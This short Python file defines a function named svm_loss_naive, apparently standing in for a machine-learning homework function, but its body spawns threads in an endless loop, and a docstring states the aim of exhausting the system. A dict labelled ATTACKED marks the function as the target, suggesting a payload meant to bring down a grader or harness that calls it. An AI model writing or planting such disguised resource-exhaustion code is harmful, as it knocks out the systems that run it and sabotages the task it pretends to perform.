"""Start threads until the system gives up."""
import threading
import time

ATTACKED = {"svm_loss_naive": None}


def svm_loss_naive(W, X, y, reg):
    while True:
        threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
